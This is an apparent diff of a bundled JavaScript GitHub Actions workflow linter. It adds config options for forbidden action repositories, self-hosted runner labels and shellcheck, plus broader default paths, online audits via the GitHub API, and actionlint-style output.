+/* harmony default export */ const required_check_skippable = (required_check_skippable_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/index.js
+
+
+
+const required_checks_family = {
+    name: 'required-checks',
+    title: 'Required checks',
+    description: 'The status checks the base branch requires, against the jobs that produce them.',
+    rules: [
+        required_check_not_required,
+        required_check_not_produced,
+        required_check_skippable
+    ]
+};
+/* harmony default export */ const required_checks = (required_checks_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/index.js
+
+
+
+
+
+
+
+/** The families, in the order docs/rules.md presents them. */
+const FAMILIES = [syntax, scripts, supply_chain, injection, permissions, deployment, required_checks];
+/** Every rule, in id order. */
+// Ids are ASCII (`PG123`): a plain comparison, not localeCompare, whose ICU collator costs tens of ms at start-up.
+const RULES = FAMILIES.flatMap((f) => f.rules).sort((a, b) => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
+const FAMILY_OF = new Map(FAMILIES.flatMap((f) => f.rules.map((r) => [r, f])));
+/** The family a rule belongs to. */
+function rules_familyOf(rule) {
+    const family = FAMILY_OF.get(rule);
+    if (!family)
+        throw new Error(`rule ${rule.id} is in no family`);
+    return family;
+}
+/** The rule with this id or kebab-case name. */
+function findRule(idOrName) {
+    const key = idOrName.trim();
+    return RULES.find((r) => r.id.toLowerCase() === key.toLowerCase() || r.name === key);
+}
+/** The docs anchor of a rule: its heading in docs/rules.md. */
+function docsAnchor(rule) {
+    return `${rule.id.toLowerCase()}-${rule.name}`;
 }
 
 ;// CONCATENATED MODULE: ./.build/src/core/workflows/config.js
@@ -3484,6 +8647,13 @@ function formatFinding(f) {
  * allow:
  *   owners: [acme]                 # trusted owners (security rules)
  *   actions: [docker/build-push-action]
+ * forbidden-uses:                  # zizmor's forbidden-uses: allow OR deny repository patterns
+ *   deny: [some-org/*]             # (*, owner/*, owner/repo/*, owner/repo[/path][@ref])
+ * runners:
+ *   self-hosted: [gpu, linux-arm64-*]  # labels of your own and larger runners (runs-on:)
+ * shellcheck:
+ *   severity: style                # lowest shellcheck level reported: error, warning (default), info, style
+ *   path: /usr/bin/shellcheck      # the executable (default: shellcheck on PATH)
  * ```
  *
  * Every error names the config file and line, all collected before failing.
@@ -3492,8 +8662,11 @@ function formatFinding(f) {
 
 
 
+
 const EMPTY_CONFIG = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] } };
 const LEVELS = ['error', 'warning', 'note', 'off'];
+/** shellcheck's levels, for `shellcheck.severity`. */
+const SHELLCHECK_LEVELS = ['error', 'warning', 'info', 'style'];
 /**
  * Reads the config at `abs` (shown as `shown`). A missing file is no config unless `explicit`
  * (the user named it). `input` is the input errors are attributed to.
@@ -3535,7 +8708,7 @@ function parseConfig(text, shown, input, rules) {
     if (root === null || ((0,yaml_dist/* isScalar */.jn)(root) && (root.value === null || root.value === '')))
         return config;
     if (!(0,yaml_dist/* isMap */.jh)(root)) {
-        fail('the config must be a mapping with rules:, ignore: and allow:', root);
+        fail('the config must be a mapping with rules:, ignore:, allow:, forbidden-uses:, runners: and shellcheck:', root);
         throw core_errors/* UserError */.y.several(errors);
     }
     const strings = (node, what) => {
@@ -3602,8 +8775,57 @@ function parseConfig(text, shown, input, rules) {
                     fail(`unknown key allow.${k}`, a.key, 'allow: takes owners and actions');
             }
         }
+        else if (key === 'forbidden-uses') {
+            const modes = (0,yaml_dist/* isMap */.jh)(value) ? value.items : [];
+            const mode = modes.length === 1 && (0,yaml_dist/* isScalar */.jn)(modes[0].key) ? String(modes[0].key.value) : '';
+            if (mode !== 'allow' && mode !== 'deny') {
+                fail('forbidden-uses: must be a mapping with either allow: or deny: (a list of repository patterns)', modes[0]?.key ?? value ?? pair.key);
+                continue;
+            }
+            const patterns = strings(modes[0].value, `forbidden-uses.${mode}`);
+            const items = (0,yaml_dist/* isSeq */.oP)(modes[0].value) ? modes[0].value.items : [modes[0].value];
+            patterns.forEach((p, i) => {
+                if (!validUsesPattern(p))
+                    fail(`forbidden-uses.${mode}: "${p}" is not a repository pattern`, items[i], 'patterns are *, owner/*, owner/repo/*, owner/repo, owner/repo/path, the last two optionally @ref');
+            });
+            config.settings = { ...config.settings, forbiddenUses: { mode, patterns } };
+        }
+        else if (key === 'runners') {
+            if (!(0,yaml_dist/* isMap */.jh)(value)) {
+                fail('runners: must be a mapping with self-hosted:', value ?? pair.key);
+                continue;
+            }
+            for (const a of value.items) {
+                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
+                if (k === 'self-hosted')
+                    config.settings = { ...config.settings, selfHostedRunners: strings(a.value, 'runners.self-hosted') };
+                else
+                    fail(`unknown key runners.${k}`, a.key, 'runners: takes self-hosted (a list of runner labels)');
+            }
+        }
+        else if (key === 'shellcheck') {
+            if (!(0,yaml_dist/* isMap */.jh)(value)) {
+                fail('shellcheck: must be a mapping with severity: and path:', value ?? pair.key);
+                continue;
+            }
+            for (const a of value.items) {
+                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
+                const v = (0,yaml_dist/* isScalar */.jn)(a.value) ? a.value.value : undefined;
+                if (k === 'severity' && typeof v === 'string' && SHELLCHECK_LEVELS.includes(v)) {
+                    config.settings = { ...config.settings, shellcheck: { ...config.settings.shellcheck, severity: v } };
+                }
+                else if (k === 'severity')
+                    fail('shellcheck.severity must be error, warning, info or style', a.value ?? a.key);
+                else if (k === 'path' && typeof v === 'string' && v.trim())
+                    config.settings = { ...config.settings, shellcheck: { ...config.settings.shellcheck, path: v.trim() } };
+                else if (k === 'path')
+                    fail('shellcheck.path must be the path of the shellcheck executable', a.value ?? a.key);
+                else
+                    fail(`unknown key shellcheck.${k}`, a.key, 'shellcheck: takes severity and path');
+            }
+        }
         else {
-            fail(`unknown key "${key}"`, pair.key, 'the config takes rules, ignore and allow');
+            fail(`unknown key "${key}"`, pair.key, 'the config takes rules, ignore, allow, forbidden-uses, runners and shellcheck');
         }
     }
     if (errors.length)
@@ -3749,7 +8971,10 @@ const OMITTED_FILES_NAMED = 100;
  * {@link OMITTED_FILES_NAMED} files, then one line for the other files together.
  */
 function omittedLines(capped) {
-    const n = (v) => v.toLocaleString('en-US');
+    if (capped.omitted.size === 0)
+        return [];
+    // 12,345: grouped by hand, as toLocaleString would (whose ICU data costs tens of ms to load).
+    const n = (v) => String(v).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
     const more = (count) => `${n(count)} more finding${count === 1 ? '' : 's'}`;
     const why = `(at most ${n(SHOWN_PER_FILE)} a file and ${n(SHOWN_PER_RUN)} a run are shown; the counts are complete)`;
     const entries = [...capped.omitted];
@@ -3800,15 +9025,17 @@ function renderSummary(findings, capped, fileCount, valid) {
 
 
 
+
 /**
- * The default `paths`: the SPEC's, and the places GitHub's conventions put local actions
- * (`.github/actions/<name>/`) and the `.yaml` spelling the runner also reads.
+ * The default `paths`: the SPEC's, every local action under `.github/` (GitHub's conventions put
+ * them in `.github/actions/<name>/`, and nested groups such as `.github/actions/ci/setup/` are
+ * common) and the `.yaml` spelling the runner also reads.
  */
 const DEFAULT_PATHS = [
     '.github/workflows/*.yml',
     '.github/workflows/*.yaml',
-    '.github/actions/*/action.yml',
-    '.github/actions/*/action.yaml',
+    '.github/**/action.yml',
+    '.github/**/action.yaml',
     'action.yml',
     'action.yaml',
     'actions/*/action.yml',
@@ -3922,6 +9149,17 @@ function requiredChecksSource(host, token) {
         }
     };
 }
+/** The client of the online rules; without a token, one line says they did not run (unless the config turned them all off). */
+async function onlineClient(host, token, enabled) {
+    if (!enabled)
+        return undefined;
+    if (!token) {
+        host.info(`online audits did not run (${ONLINE_RULES.map((r) => r.name).join(', ')}): no \`token\` input to read the GitHub API`);
+        return undefined;
+    }
+    const { createGitHubClient, clientOptionsFromEnv } = await Promise.all(/* import() */[__webpack_require__.e(932), __webpack_require__.e(408)]).then(__webpack_require__.bind(__webpack_require__, 7408));
+    return createGitHubClient({ token, ...clientOptionsFromEnv(host.env), log: (m) => host.info(m) });
+}
 const ANNOTATION = { error: 'error', warning: 'warning', note: 'notice' };
 async function runValidate(host) {
     const workspace = host.workspace;
@@ -3943,7 +9181,8 @@ async function runValidate(host) {
     const requiredChecks = requiredChecksSource(host, token);
     if (!requiredChecks)
         host.info('required checks not verified: no `token` input to read the base branch protection and rulesets');
-    const findings = await lint(parsed, { workspace, rules: RULES, ruleSettings: config.rules, settings: config.settings, requiredChecks });
+    const github = await onlineClient(host, token, ONLINE_RULES.some((r) => config.rules.get(r.id) !== 'off'));
+    const findings = await lint(parsed, { workspace, rules: RULES, ruleSettings: config.rules, settings: config.settings, requiredChecks, github });
     // Shown: at most 100 findings a file and 1,000 a run (errors first); the counts are of all.
     const capped = capFindings(findings);
     const omitted = omittedLines(capped);
@@ -3961,15 +9200,17 @@ async function runValidate(host) {
         findings: capped.shown.map((f) => ({ rule: f.ruleId, name: f.ruleName, level: f.level, file: f.file, line: f.line, column: f.column, message: f.message })),
         omitted: [...capped.omitted].map(([file, count]) => ({ file, count }))
     };
-    await writeFileAtomic(sarifFile, JSON.stringify(toSarif(capped.shown, { rules: RULES, docsAnchor: docsAnchor, omitted }), null, 2) + '\n');
+    const sarif = toSarif(capped.shown, { rules: RULES, docsAnchor: docsAnchor, omitted });
+    await writeFileAtomic(sarifFile, JSON.stringify(sarif, null, 2) + '\n');
     host.setOutput(ValidationOutputs.Valid, String(valid));
     host.setOutput(ValidationOutputs.ErrorCount, String(errorCount));
     host.setOutput(ValidationOutputs.WarningCount, String(warningCount));
     host.setOutput(ValidationOutputs.SarifPath, displayPath(workspace, sarifFile));
     host.setOutput(ValidationOutputs.Report, JSON.stringify(report));
-    // Compiler-like lines for the log and the terminal; annotations where the runner reads them.
+    // actionlint's lines (`file:line:col: message [PGxxx]`) for the log and the terminal, each
+    // finding once; annotations where the runner reads them.
     for (const f of capped.shown)
-        host.info(formatFinding(f));
+        host.info(formatActionlint(f));
     for (const line of omitted)
         host.info(line);
     if (host.env.GITHUB_ACTIONS === 'true') {
@@ -3979,13 +9220,15 @@ async function runValidate(host) {
         for (const line of omitted)
             host.annotate('notice', line, { title: 'findings not shown' });
     }
-    await host.appendSummary(renderSummary(findings, capped, parsed.length, valid));
+    // On a terminal the summary would print every finding a second time: the lines above are it.
+    if (!host.summaryInline)
+        await host.appendSummary(renderSummary(findings, capped, parsed.length, valid));
     host.info(`${parsed.length} file${parsed.length === 1 ? '' : 's'} checked: ${errorCount} error(s), ${warningCount} warning(s); SARIF in ${external_node_path_.relative(workspace, sarifFile) || sarifFile}`);
     const failing = failOn === 'never' ? 0 : failOn === 'warning' ? errorCount + warningCount : errorCount;
     const message = failing
         ? `workflows validation failed: ${errorCount} error(s) and ${warningCount} warning(s) in ${new Set(findings.map((f) => f.file)).size} file(s) (fail-on: ${failOn})`
         : undefined;
-    return { ok: failing === 0, message, findings, report };
+    return { ok: failing === 0, message, findings, report, sarif };
 }
 
 
